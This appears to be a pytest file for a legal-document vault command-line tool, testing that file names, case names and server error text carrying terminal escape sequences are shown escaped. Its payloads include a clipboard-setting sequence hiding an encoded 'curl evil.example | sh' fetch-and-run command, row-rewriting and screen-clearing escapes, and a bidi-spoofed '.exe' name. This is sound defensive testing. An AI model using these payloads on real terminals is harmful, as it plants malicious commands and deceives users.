"""T31: terminal injection. A co-counsel chooses file and case names, a hostile server chooses
its error text; shown raw, an ESC sequence in them moves the cursor and rewrites a row of `ls`
(another uploader), clears the screen (ESC [2J), or sets the clipboard (OSC 52), and a bidi
override makes "gpj.exe" read "exe.jpg". Human output escapes them visibly (client.cli.safetext);
--json keeps the exact strings. Real `casevault` against a real server, and against a hostile
one for the error text.
"""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import cli_kit
from attack_kit import PASSPHRASE, plant_upload

from client.cli.safetext import shown, shown_markup
from client.vault import Vault

server = cli_kit.server
lawyers = cli_kit.lawyers
laptop = cli_kit.laptop

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07evil.pdf"  # OSC 52: set clipboard
ROW_REWRITE = "\x1b[1A\x1b[2Kreport.pdf"  # up one row, erase it
BIDI = "invoice\u202efdp.exe"  # reads "invoiceexe.pdf"
CLEAR = "\x1b[2JR v Smith [bold red]x[/]"  # clear screen, and Rich markup for good measure
RAW = ("\x1b", "\x07", "\u202e", "\x9b")


def _assert_escaped(text: str) -> None:
    for ch in RAW:
        assert ch not in text, repr(text)


def test_T31_file_and_case_names_are_escaped_in_human_output(lawyers):
    alice, bob = lawyers("alice", "bob")
    case_id = bob.json("case", "create", CLEAR)["case_id"]
    bob.run("share", case_id, alice.username, "--role", "editor")
    names = [CLIPBOARD, ROW_REWRITE, BIDI]
    for name in names:
        (bob.workdir / name).write_text("planted")
    # Bob's own client refuses such names before uploading anything (SPEC 6.5.1)...
    refused = bob.fail("put", case_id, *[str(bob.workdir / n) for n in names])
    assert "control and format characters are refused" in refused.stderr
    assert alice.json("ls", case_id) == []
    # ...so a hostile co-counsel uses a modified client: each name sealed as a record of an
    # older client (a name, no folder path), signed and uploaded as an honest upload is.
    hostile = Vault(str(bob.home), server=bob.server.url, passphrase=PASSPHRASE)
    for name in names:
        plant_upload(hostile, case_id, b"planted", name=name)

    listing = alice.run("ls", case_id).stdout
    _assert_escaped(listing)
    assert "\\x1b]52;c;" in listing and "\\x07evil.pdf" in listing
    assert "\\x1b[1A\\x1b[2Kreport.pdf" in listing and "invoice\\u202efdp.exe" in listing
    # One row per file, every row the uploader's: no row was rewritten.
    rows = listing.splitlines()[1:]
    assert len(rows) == 3 and all(bob.username in r for r in rows)

    cases = alice.run("case", "list").stdout
    _assert_escaped(cases)
    assert "\\x1b[2JR v Smith [bold red]x[/]" in cases

    # --json is exact: the same bytes the uploader chose.
    assert sorted(f["name"] for f in alice.json("ls", case_id)) == sorted(names)
    assert [c["name"] for c in alice.json("case", "list")] == [CLEAR]
    raw = alice.run("ls", case_id, "--json").stdout
    assert json.loads(raw) == alice.json("ls", case_id)


def _hostile_server(detail: str):
    """Answers every request with a problem whose text holds terminal commands."""

    class Handler(BaseHTTPRequestHandler):
        def _answer(self) -> None:
            body = json.dumps({"code": "invalid_request", "detail": detail}).encode()
            self.send_response(400)
            self.send_header("Content-Type", "application/problem+json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_GET = do_POST = _answer

        def log_message(self, *args) -> None:
            pass

    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    return httpd


def test_T31_server_error_text_is_escaped(laptop):
    httpd = _hostile_server(f"try again{CLIPBOARD}\n\x1b[2J\u2066forged line")
    try:
        lawyer = laptop("alice-t31", "t31")
        url = f"http://127.0.0.1:{httpd.server_address[1]}"
        proc = lawyer.fail("login", "alice-t31", "--server", url, "--totp", "123456")
    finally:
        httpd.shutdown()
    _assert_escaped(proc.stderr)
    assert "\u2066" not in proc.stderr
    assert "\\x1b]52;c;" in proc.stderr and "\\x1b[2J\\u2066forged line" in proc.stderr


def test_T31_the_one_sanitiser():
    # Every control, format and separator character visibly escaped; the rest left alone.
    assert shown("Stra\u00dfe R v M\u00fcller \u6cd5") == "Stra\u00dfe R v M\u00fcller \u6cd5"
    assert shown("a\tb\nc\rd\x00e\x7ff\x85g") == "a\\x09b\\x0ac\\x0dd\\x00e\\x7ff\\x85g"
    for ch in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\u200f\ufeff\u2028":
        assert shown(ch) == f"\\u{ord(ch):04x}"
    assert shown("\U000e0041") == "\\U000e0041"  # a tag character (Cf) outside the BMP
    # Where Rich renders, its markup is escaped too.
    assert shown_markup("[bold]x[/]\x1b") == "\\[bold]x\\[/]\\x1b"
